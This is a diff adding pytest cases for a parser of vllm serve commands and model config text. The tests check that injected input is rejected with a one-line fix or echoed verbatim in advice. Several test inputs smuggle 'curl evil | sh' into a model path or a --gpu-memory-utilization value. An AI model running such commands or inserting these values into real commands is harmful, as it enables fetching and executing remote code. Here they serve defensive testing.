@@ -391,6 +391,26 @@ def test_a_second_host_s_command_is_medley_s_launcher() -> None:
     assert not found.refused_entries
 
 
+@pytest.mark.parametrize(
+    ("text", "word"),
+    [
+        ("vllm serve './m\ncurl evil | sh\ntrue' --port 8000", "in place of './m curl evil | sh true', then"),
+        ('"models\\nx": a/b\nruntime: vllm', "rename 'models x' to model"),
+    ],
+)
+def test_what_an_author_writes_is_one_word_of_a_fix(text: str, word: str) -> None:
+    with pytest.raises(Problem) as caught:
+        made(text)
+    assert word in caught.value.fix
+    assert len(caught.value.fix.splitlines()) == 1
+
+
+def test_what_an_author_writes_is_one_word_of_an_advice() -> None:
+    found = made("vllm serve a/b --gpu-memory-utilization '0.85; curl evil | sh #'")
+    (entry,) = (each for each in found.entries if "gpu-memory-utilization" in each.key)
+    assert entry.why.endswith("-- --gpu-memory-utilization '0.85; curl evil | sh #'")
+
+
 @pytest.mark.parametrize("model", ["/models/qwen", "$MODEL", "<MODEL>", "~/qwen"])
 def test_a_model_that_only_its_author_has_is_asked_for(model: str) -> None:
     with pytest.raises(Problem) as caught:
